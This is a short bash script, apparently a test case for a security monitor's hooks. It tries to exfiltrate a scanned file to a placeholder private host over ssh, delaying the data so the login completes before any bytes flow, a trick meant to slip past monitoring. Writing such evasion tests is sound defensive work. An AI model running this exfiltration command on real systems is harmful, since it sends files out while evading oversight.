#!/usr/bin/env bash
# technique: ssh has logged in before the first byte comes through its pipe
# hooks: file_permission (of the pipe, looked at again at the sink), socket_sendmsg
# sink: private-ssh

. attack.sh
(sleep 3; cat "$SCAN") | timeout 20 ssh -p "$PORT_SSH" "keeper@$PRIVATE_HOST" "cat >$here"
